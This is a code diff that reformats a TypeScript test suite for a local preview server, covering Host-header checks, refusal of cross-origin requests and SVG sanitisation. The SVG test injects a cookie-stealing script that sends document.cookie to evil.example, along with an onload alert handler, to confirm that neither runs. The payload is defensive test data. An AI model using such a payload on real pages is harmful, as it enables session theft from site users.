@@ -109,11 +109,20 @@ describe('kia preview', () => {
     const get = (pathname: string, headers: Record<string, string>, at = server) =>
       new Promise<{ status: number; body: string }>((resolve, reject) => {
         // An empty Host is sent as no Host header at all (HTTP/1.0 style).
-        const request = httpRequest({ host: '127.0.0.1', port: new URL(at.url).port, path: pathname, headers: Object.fromEntries(Object.entries(headers).filter(([name, value]) => name !== 'host' || value !== '')), setHost: headers.host !== '' }, (response) => {
-          let body = '';
-          response.on('data', (chunk: Buffer) => (body += chunk.toString()));
-          response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
-        });
+        const request = httpRequest(
+          {
+            host: '127.0.0.1',
+            port: new URL(at.url).port,
+            path: pathname,
+            headers: Object.fromEntries(Object.entries(headers).filter(([name, value]) => name !== 'host' || value !== '')),
+            setHost: headers.host !== '',
+          },
+          (response) => {
+            let body = '';
+            response.on('data', (chunk: Buffer) => (body += chunk.toString()));
+            response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
+          },
+        );
         request.on('error', reject);
         request.end();
       });
@@ -124,7 +133,8 @@ describe('kia preview', () => {
     }
     // Without a Host header, Node's HTTP server answers 400 itself.
     expect((await get('/flits/', { host: '' })).status).toBe(400);
-    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, 'LOCALHOST']) expect((await get('/flits/', { host })).status, host).toBe(200);
+    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, 'LOCALHOST'])
+      expect((await get('/flits/', { host })).status, host).toBe(200);
     // Work on request (the PDF, the event stream) from another site's page is refused too.
     expect((await get('/__kia/pdf/flits', { host: `localhost:${port}`, origin: 'http://evil.example' })).status).toBe(403);
     expect((await get('/__kia/errors/flits', { host: `localhost:${port}`, origin: `http://localhost:${port}` })).status).toBe(200);
@@ -138,11 +148,14 @@ describe('kia preview', () => {
     }
   }, 60_000);
 
-  it('serves an SVG only as sanitised: a script in it never runs in the preview\'s origin', async () => {
+  it("serves an SVG only as sanitised: a script in it never runs in the preview's origin", async () => {
     const file = path.join(content, 'flits/afbeeldingen/risicomatrix.svg');
     const original = readFileSync(file, 'utf8');
     const reloaded = page.waitForNavigation({ waitUntil: 'load' });
-    writeFileSync(file, original.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>').replace('<svg ', '<svg onload="alert(1)" '));
+    writeFileSync(
+      file,
+      original.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>').replace('<svg ', '<svg onload="alert(1)" '),
+    );
     // An image is not a source the watcher rebuilds for: touch the document.
     edit((text) => `${text}\n`);
     await reloaded;
